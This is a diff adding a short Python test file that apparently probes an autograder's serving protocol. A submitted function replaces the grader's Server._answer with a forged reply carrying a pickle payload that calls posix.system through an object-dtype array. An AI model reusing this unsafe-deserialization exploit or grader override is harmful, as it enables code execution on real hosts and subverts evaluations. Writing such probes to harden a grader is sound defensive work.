@@ -1,0 +1,23 @@
+# tries: a pickle as the bytes of an array of objects
+# control: 0
+import json
+import struct
+
+from autograder.serving import Server
+
+
+def frame(header):
+    text = json.dumps(header).encode()
+    return struct.pack("<I", len(text)) + text
+
+
+def forged(self, header, buffers):
+    self.connection.sendall(
+        frame({"value": {"$a": 0, "dtype": "O", "shape": [1], "kind": "array"}, "sizes": [31]})
+        + b"cposix\nsystem\n(S\x27true\x27\ntR.".ljust(31)
+    )
+
+
+def double(x):
+    Server._answer = forged
+    return 6
